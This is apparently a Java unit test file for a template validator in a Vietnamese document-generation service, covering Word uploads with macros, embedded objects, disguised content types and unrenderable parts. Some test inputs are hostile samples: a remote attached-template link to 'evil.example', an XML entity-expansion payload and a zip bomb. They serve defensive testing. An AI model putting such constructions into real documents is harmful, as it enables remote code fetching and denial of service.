package vn.commendation.document;

import static org.assertj.core.api.Assertions.assertThat;
import static vn.commendation.document.DocumentField.rows;
import static vn.commendation.document.DocumentField.text;

import java.time.Clock;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** What an uploaded template must not be or have. */
class TemplateCheckTest {

  private static final List<DocumentField> FIELDS =
      List.of(text("ten", "An"), rows("danh_sach", text("ten", "Bình")));
  private static final String PARAGRAPH = WordSamples.paragraph("{{ten}}");

  private final TemplateCheck check = new TemplateCheck(new PdfRenderer(Clock.systemUTC()));

  @Test
  void shouldTakeATemplateThatDocumentsCanBeDrawnUpWith() {
    assertThat(problems(WordSamples.docx(PARAGRAPH))).isEmpty();
    assertThat(problems(WordSamples.letter())).contains("unknown {{so_ky_hieu}}");
  }

  @Test
  void shouldNameAnUnknownPlaceholder() {
    assertThat(problems(WordSamples.docx(WordSamples.paragraph("{{ten}} {{tuoi}} {{ten_}}"))))
        .containsExactly("unknown {{tuoi}}", "unknown {{ten_}}");
  }

  @Test
  void shouldRefuseMacrosAndObjects() {
    assertThat(problems(WordSamples.docx(PARAGRAPH, Map.of("word/vbaProject.bin", "x"))))
        .containsExactly("macro word/vbaProject.bin");
    assertThat(problems(WordSamples.docx(PARAGRAPH, Map.of("word/embeddings/ole1.bin", "x"))))
        .containsExactly("object word/embeddings/ole1.bin");
    assertThat(problems(WordSamples.docx(PARAGRAPH, Map.of("word/activeX/activeX1.xml", "<x/>"))))
        .containsExactly("object word/activeX/activeX1.xml");
  }

  @Test
  void shouldRefuseAMacroDocumentUnderTheNameOfADocx() {
    var types =
        """
        <Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
          <Override PartName="/word/document.xml"
              ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>
        </Types>""";

    assertThat(problems(WordSamples.docx(PARAGRAPH, Map.of("[Content_Types].xml", types))))
        .containsExactly("macro /word/document.xml");
  }

  @Test
  void shouldRefuseWhatIsFetchedFromOutside() {
    var remote =
        WordSamples.relations(
            "<Relationship Id=\"rId9\" Target=\"http://evil.example/t.dotm\""
                + " TargetMode=\"External\" Type=\"x/attachedTemplate\"/>");

    assertThat(
            problems(WordSamples.docx(PARAGRAPH, Map.of("word/_rels/settings.xml.rels", remote))))
        .containsExactly("external http://evil.example/t.dotm");
  }

  @Test
  void shouldRefuseEntitiesOfXml() {
    var bomb =
        "<!DOCTYPE x [<!ENTITY a \"aaaa\">]><w:document xmlns:w=\""
            + Ooxml.W
            + "\"><w:body><w:p><w:r><w:t>&a;</w:t></w:r></w:p></w:body></w:document>";

    assertThat(problems(WordSamples.docx("", Map.of("word/document.xml", bomb))))
        .containsExactly("unreadable ");
  }

  @Test
  void shouldRefuseAZipBomb() {
    var bomb = WordSamples.docx(PARAGRAPH, Map.of("word/media/x.bin", "0".repeat(61 << 20)));

    assertThat(bomb.length).isLessThan(1 << 20);
    assertThat(problems(bomb)).containsExactly("too-large ");
  }

  @Test
  void shouldRefuseWhatThePdfCouldNotShow() {
    assertThat(problems(WordSamples.docx(PARAGRAPH + "<w:p><w:r><w:pict/></w:r></w:p>")))
        .containsExactly("not-drawn pict");
    assertThat(
            problems(
                WordSamples.docx(
                    PARAGRAPH
                        + "<w:p><w:r><w:drawing><wp:anchor xmlns:wp=\""
                        + Ooxml.WP
                        + "\"/></w:drawing></w:r></w:p>")))
        .containsExactly("not-drawn anchor");
    assertThat(
            problems(
                WordSamples.docx(PARAGRAPH + "<w:p><w:ins><w:r><w:t>x</w:t></w:r></w:ins></w:p>")))
        .containsExactly("tracked-changes ");
  }

  @Test
  void shouldSayWhenNoDocumentComesOfIt() {
    var noPage =
        "<w:document xmlns:w=\"" + Ooxml.W + "\"><w:body>" + PARAGRAPH + "</w:body></w:document>";

    assertThat(problems(WordSamples.docx("", Map.of("word/document.xml", noPage))))
        .singleElement()
        .asString()
        .startsWith("not-rendered");
  }

  @Test
  void shouldRefuseASpreadsheetUnderTheNameOfADocx() {
    var parts = new LinkedHashMap<String, String>();
    parts.put("[Content_Types].xml", "<x/>");
    parts.put("xl/workbook.xml", "<x/>");

    assertThat(problems(WordSamples.zip(parts))).containsExactly("unreadable ");
  }

  private List<String> problems(byte[] content) {
    return check.problems(content, FIELDS).stream()
        .map(problem -> problem.code() + " " + problem.place())
        .toList();
  }
}
